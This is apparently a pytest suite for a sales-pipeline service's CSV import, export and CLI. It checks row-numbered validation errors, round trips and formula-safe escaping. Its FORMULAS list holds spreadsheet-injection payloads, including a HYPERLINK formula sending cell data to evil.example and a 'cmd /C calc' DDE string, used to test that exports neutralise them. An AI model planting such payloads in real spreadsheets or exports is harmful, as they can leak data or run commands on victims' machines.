"""CSV import and export through the gateway and the CLI: bad rows are reported with their row
numbers and nothing is stored; good files are stored whole; an exported file imports again."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from pathlib import Path

import pytest

from runtime.testing import unique

ROOT = Path(__file__).resolve().parents[2]


def to_csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


async def upload(api, kind: str, text: str | bytes, *, multipart: bool = False):
    data = text.encode() if isinstance(text, str) else text
    if multipart:
        return await api.post(f"/api/{kind}/import", files={"file": ("f.csv", data, "text/csv")})
    return await api.post(f"/api/{kind}/import", content=data, headers={"content-type": "text/csv"})


async def cli(*args: str, env: dict[str, str]) -> tuple[int, str, str]:
    # The service runs in this test's event loop: the CLI must not block it.
    proc = await asyncio.create_subprocess_exec(sys.executable, "-m", "services.pipeline.csv_cli", *args, cwd=ROOT,
                                                env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(proc.communicate(), 120)
    return proc.returncode or 0, out.decode(), err.decode()


async def owned(api, kind: str, owner: str) -> int:
    response = await api.get(f"/api/{kind}", params={"owner": owner, "include_archived": "true"}
                             if kind == "partners" else {"owner": owner})
    return response.json()["total"]


class TestPartnersCsv:
    async def test_bad_rows_are_reported_by_number_and_nothing_is_stored(self, api, new_owner):
        owner, _ = await new_owner()
        taken = (await api.post("/api/partners", json={"name": unique("Taken "), "type": "isv"})).json()["name"]
        text = to_csv([
            ["Name", "Type", "Tier", "Owner", "Strategic fit", "Revenue potential", "Feasibility", "Risk"],
            [unique("Good "), "ISV", "", owner, "8", "6", "7", "5"],          # row 2: fine
            ["", "isv", "", owner, "", "", "", ""],                            # row 3: no name
            [unique("Bad type "), "spaceship", "", owner, "", "", "", ""],     # row 4: type
            [unique("Score "), "msp", "diamond", owner, "11", "1", "1", "1"],  # row 5: tier and a criterion
            [],                                                                # row 6: blank, skipped
            [taken, "isv", "", owner, "", "", "", ""],                         # row 7: name taken
            ["Twice", "referral", "", owner, "", "", "", ""],                  # row 8
            ["twice", "referral", "", owner, "", "", "", ""],                  # row 9: same name as row 8
            [unique("Short "), "isv"],                                         # row 10: too few cells
            [unique("Half "), "isv", "", owner, "5", "", "", ""],              # row 11: half a scorecard
        ])
        response = await upload(api, "partners", text)
        assert response.status_code == 422, response.text
        errors = {(d["loc"][2], d["loc"][3] if len(d["loc"]) > 3 else None) for d in response.json()["detail"]}
        assert errors == {(3, "name"), (4, "type"), (5, "tier"), (5, "strategic_fit"), (7, "name"), (9, "name"),
                          (10, None), (11, "revenue_potential"), (11, "feasibility"), (11, "risk")}
        assert response.json()["result"]["stored"] is False
        assert await owned(api, "partners", owner) == 0

    async def test_a_good_file_is_stored_and_an_export_imports_again(self, api, new_owner):
        owner, _ = await new_owner()  # files name owners by email
        names = [unique("Csv ") for _ in range(3)]
        text = to_csv([["name", "type", "status", "owner", "tier"], [names[0], "ISV", "Active", owner, ""],
                       [names[1], "co-sell", "onboarding", owner, "Gold"], [names[2], "MSP", "prospect", owner, ""]])
        response = await upload(api, "partners", "\ufeff" + text, multipart=True)
        assert response.status_code == 200, response.text
        assert response.json()["created"] == 3 and response.json()["stored"] is True
        assert await owned(api, "partners", owner) == 3

        export = await api.get("/api/partners/export.csv")
        assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(export.text)))
        mine = [rows[0]] + [r for r in rows[1:] if r[rows[0].index("owner")] == owner]
        assert {r[1] for r in mine[1:]} == set(names)
        again = await upload(api, "partners", to_csv(mine))
        assert again.status_code == 200, again.text
        assert (again.json()["created"], again.json()["updated"]) == (0, 3)
        assert await owned(api, "partners", owner) == 3

    @pytest.mark.parametrize(("data", "where"), [
        (b"", "file"), (b"\n\n", "file"), (b"\xff\xfe\x00n\x00a", "file"), ("name,type,colour\nA,isv,red\n", "columns"),
        ("type\nisv\n", "columns"), ("name,name,type\nA,B,isv\n", "columns"), ('name,type\n"A,isv\n', "rows"),
    ])
    async def test_unreadable_files_are_422(self, api, data, where):
        response = await upload(api, "partners", data)
        assert response.status_code == 422, response.text
        assert where in str(response.json()["detail"])


class TestOpportunitiesCsv:
    async def test_a_large_file_with_one_bad_row_stores_nothing(self, api, new_owner):
        owner, _ = await new_owner()
        partner = (await api.post("/api/partners", json={"name": unique("Csv ISV "), "type": "isv"})).json()
        rows = [["name", "customer", "partner", "amount", "currency", "expected_close_date", "owner", "stage"]]
        for i in range(1200):
            rows.append([f"Deal {i}", "Cust", partner["name"], "12,500.00", "usd", "2026-12-01", owner, "Proposal"])
        # rows[n - 1] is line n of the file (the header is line 1).
        rows[1149][5] = "01/12/2026"                                                    # row 1150: not ISO
        rows[2][2] = "No Such Partner"                                                  # row 3
        rows[699][7] = "Signed"                                                         # row 700: no such stage
        response = await upload(api, "opportunities", to_csv(rows))
        assert response.status_code == 422, response.text
        found = {(d["loc"][2], d["loc"][3]) for d in response.json()["detail"]}
        assert found == {(1150, "expected_close_date"), (3, "partner"), (700, "stage")}
        assert await owned(api, "opportunities", owner) == 0

        stranger = [*rows[5][:6], "nobody@nowhere.test", rows[5][7]]
        refused = await upload(api, "opportunities", to_csv([rows[0], stranger]))
        assert refused.status_code == 422
        assert [(d["loc"][2], d["loc"][3]) for d in refused.json()["detail"]] == [(2, "owner")]

        rows[1149][5], rows[2][2], rows[699][7] = "2026-12-01", partner["name"], "negotiation"
        response = await upload(api, "opportunities", to_csv(rows))
        assert response.status_code == 200, response.text
        assert response.json()["created"] == 1200
        listed = await api.get("/api/opportunities", params={"owner": owner, "limit": 1, "sort": "-amount"})
        top = listed.json()
        assert top["total"] == 1200 and top["items"][0]["amount"] == "12500.00"
        assert top["items"][0]["partner_id"] == partner["id"] and top["items"][0]["currency"] == "USD"
        detail = (await api.get(f"/api/opportunities/{top['items'][0]['id']}")).json()
        assert detail["source"] == "import" and detail["stage_history"][0]["changed_by"] == "token:pipeline-tests"

    async def test_every_problem_of_every_row_in_one_pass_with_owner_typos_named(self, api, new_owner):
        owner, _ = await new_owner()
        typo = owner.split("@")[0] + "x"  # one letter off the member's handle, as `tomm` is off `tom`
        header = ["name", "customer", "partner", "amount", "currency", "expected_close_date", "owner"]
        rows = [header,
                ["Three problems", "Acme", "No Such Partner Ltd", "ten", "USD", "2026-12-01", typo],  # line 2
                ["Fine", "Acme", "", "100", "USD", "2026-12-01", owner],                               # line 3
                ["Owner only", "Acme", "", "100", "USD", "2026-12-01", "nobody-alike"]]                # line 4
        response = await upload(api, "opportunities", to_csv(rows))
        assert response.status_code == 422, response.text
        detail = response.json()["detail"]
        assert {(d["loc"][2], d["loc"][3]) for d in detail} == {(2, "partner"), (2, "amount"), (2, "owner"),
                                                               (4, "owner")}
        [typo_error] = [d["msg"] for d in detail if d["loc"][2:] == [2, "owner"]]
        assert f"did you mean {owner}?" in typo_error, typo_error
        [far_error] = [d["msg"] for d in detail if d["loc"][2:] == [4, "owner"]]
        assert "did you mean" not in far_error and "is not a team member" in far_error
        result = response.json()["result"]
        assert result["rows"] == 3 and result["stored"] is False
        assert await owned(api, "opportunities", owner) == 0, "a file with a problem stores nothing"

    async def test_the_cli_imports_with_progress_and_exports(self, api, pipeline_nats, tmp_path, new_owner):
        # The CLI talks to the pipeline directly: it stores and exports owners as user ids.
        _, owner = await new_owner()
        good = tmp_path / "deals.csv"
        good.write_text(to_csv([["name", "customer", "amount", "owner", "deal_model", "stage"],
                                ["CLI deal", "Cust", "99.95", owner, "co-sell", "Technical Validation"]]))
        env = {**os.environ, "NATS_URL": pipeline_nats}
        code, out, err = await cli("import", "opportunities", str(good), "--progress", env=env)
        assert code == 0, err
        assert "1 rows stored (1 created, 0 updated)" in out and "1/1 rows" in err
        assert await owned(api, "opportunities", owner) == 1

        bad = tmp_path / "bad.csv"
        bad.write_text(to_csv([["name", "customer", "amount", "owner"], ["x", "y", "lots", owner]]))
        code, out, err = await cli("import", "opportunities", str(bad), env=env)
        assert code == 1 and "row 2, amount" in err and "nothing was stored" in err
        assert await owned(api, "opportunities", owner) == 1

        target = tmp_path / "export.csv"
        code, _, err = await cli("export", "opportunities", "-o", str(target), env=env)
        assert code == 0, err
        exported = list(csv.DictReader(target.open()))
        mine = [r for r in exported if r["owner"] == owner]
        assert len(mine) == 1 and mine[0]["stage"] == "technical_validation" and mine[0]["pipeline"] == "cosell"


# Every prefix a spreadsheet runs as a formula, and text that already looks escaped.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\tTabbed", "\rReturned", "'=already quoted", "''+twice")


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and not _number(cell)), cell


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class TestFormulaSafeCsv:
    async def test_partners_with_formula_names_export_as_text_and_import_back_unchanged(self, api, new_owner):
        owner, _ = await new_owner()
        for f in FORMULAS:
            r = await api.post("/api/partners", json={"name": f"{f} {unique('')}", "type": "isv", "owner": owner})
            assert r.status_code == 201, r.text
        # As stored (surrounding whitespace is trimmed on the way in, so "\tTabbed" is stored "Tabbed").
        listing = await api.get("/api/partners", params={"owner": owner, "limit": 50})
        names = [p["name"] for p in listing.json()["items"]]
        assert len(names) == len(FORMULAS)
        export = await api.get("/api/partners/export.csv")
        rows = list(csv.reader(io.StringIO(export.text, newline="")))
        mine = [rows[0]] + [r for r in rows[1:] if r[rows[0].index("owner")] == owner]
        assert len(mine) == 1 + len(names)
        _no_formula(mine)
        exported = {r[rows[0].index("name")] for r in mine[1:]}
        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")' in {n.rsplit(" ", 1)[0] for n in exported}
        again = await upload(api, "partners", to_csv(mine))
        assert again.status_code == 200, again.text
        assert (again.json()["created"], again.json()["updated"]) == (0, len(names))
        listed = (await api.get("/api/partners", params={"owner": owner, "limit": 50})).json()["items"]
        assert sorted(p["name"] for p in listed) == sorted(names)

    async def test_opportunities_with_formula_text_export_as_text_and_import_back_unchanged(self, api, new_owner):
        owner, _ = await new_owner()
        made = []
        for f in FORMULAS:
            r = await api.post("/api/opportunities", json={"name": f"{f} deal", "customer": f, "amount": "1200.50",
                                                           "owner": owner})
            assert r.status_code == 201, r.text
            made.append(r.json())
        export = await api.get("/api/opportunities/export.csv")
        rows = list(csv.reader(io.StringIO(export.text, newline="")))
        header = rows[0]
        mine = [header] + [r for r in rows[1:] if r[header.index("owner")] == owner]
        assert len(mine) == 1 + len(FORMULAS)
        _no_formula(mine)
        again = await upload(api, "opportunities", to_csv(mine))
        assert again.status_code == 200, again.text
        assert (again.json()["created"], again.json()["updated"]) == (0, len(FORMULAS))
        customers = {r[header.index("customer")] for r in mine[1:]}
        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")' in customers
        for before in made:
            after = (await api.get(f"/api/opportunities/{before['id']}")).json()
            assert (after["name"], after["customer"], after["amount"]) == (before["name"], before["customer"],
                                                                           before["amount"])

    def test_the_shared_helper_round_trips_every_string(self):
        from runtime.csv_cells import safe, unsafe

        for text in (*FORMULAS, "", "'", "-", "-12.50", "+7", "1e5", "plain", "'-5", "=", "@"):
            assert unsafe(safe(text)) == text, text
            assert safe(text)[:1] not in ("=", "+", "@", "\t", "\r") or _number(safe(text)), text
        assert safe("-12.50") == "-12.50" and safe(None) == ""
